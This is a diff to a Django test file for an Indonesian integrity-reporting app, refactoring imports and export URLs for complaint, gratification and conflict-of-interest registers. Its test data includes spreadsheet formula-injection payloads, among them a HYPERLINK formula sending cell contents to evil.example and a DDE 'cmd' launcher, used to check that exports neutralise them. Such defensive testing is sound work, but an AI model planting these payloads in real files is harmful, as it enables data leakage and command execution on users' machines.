@@ -11,8 +11,10 @@ from django.urls import reverse
 from openpyxl import load_workbook
 
 from tests import factories
+from zi.integrity import services as integrity_services
+from zi.organisations import sheets
 from zi.organisations.models import Role
-from zi.programme import exports, services
+from zi.programme import services
 
 WHISTLE_NAME = "Siti Pelapor Rahasia"
 WHISTLE_CONTACT = "siti.rahasia@example.com"
@@ -20,7 +22,11 @@ INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+62 812 CMD", 
 
 
 def url(unit, kind, fmt=""):
-    return reverse("programme:export", args=[unit.pk, kind]) + (f"?format={fmt}" if fmt else "")
+    if kind == "pengaduan":
+        address = reverse("programme:complaints_export", args=[unit.pk])
+    else:
+        address = reverse("integrity:export", args=[unit.pk, kind])
+    return address + (f"?format={fmt}" if fmt else "")
 
 
 def read_csv(response):
@@ -47,7 +53,7 @@ def registers(team, lapas, staff):
         complainant_name="Budi Pengadu",
         complainant_contact="0812-555-0101",
     )
-    services.gratification_report_create(
+    integrity_services.gratification_report_create(
         actor=team,
         unit=lapas,
         reporter=staff[0],
@@ -57,8 +63,10 @@ def registers(team, lapas, staff):
         value_estimate="350000",
         refused=True,
     )
-    services.conflict_create(actor=team, unit=lapas, declared_on=dt.date(2026, 2, 2), situation="Melayani kerabat")
-    services.whistle_submit_public(
+    integrity_services.conflict_create(
+        actor=team, unit=lapas, declared_on=dt.date(2026, 2, 2), situation="Melayani kerabat"
+    )
+    integrity_services.whistle_submit_public(
         unit=lapas,
         subject="Dugaan pungli",
         description="Diminta uang",
@@ -123,7 +131,7 @@ def read_xlsx_bytes(body):
 def test_formula_injection_is_neutralised(client, team, lapas, staff):
     for text in INJECTIONS:
         services.complaint_submit_public(unit=lapas, category="lainnya", subject=text, description=text)
-    services.conflict_create(
+    integrity_services.conflict_create(
         actor=team, unit=lapas, declared_on=dt.date(2026, 2, 2), situation="=cmd|' /C calc'!A0", related_party="@x"
     )
     client.force_login(team)
@@ -138,5 +146,5 @@ def test_formula_injection_is_neutralised(client, team, lapas, staff):
     rows = read_csv(client.get(url(lapas, "benturan-kepentingan")))
     assert rows[1][2] == "'=cmd|' /C calc'!A0" and rows[1][3] == "'@x"
     # ordinary text and numbers are left alone
-    assert exports.safe_cell("Antrean") == "Antrean" and exports.safe_cell(-5) == -5
-    assert exports.safe_cell("\t=1+1") == "'\t=1+1" and exports.safe_cell("\r=1") == "'\r=1"
+    assert sheets.safe_cell("Antrean") == "Antrean" and sheets.safe_cell(-5) == -5
+    assert sheets.safe_cell("\t=1+1") == "'\t=1+1" and sheets.safe_cell("\r=1") == "'\r=1"
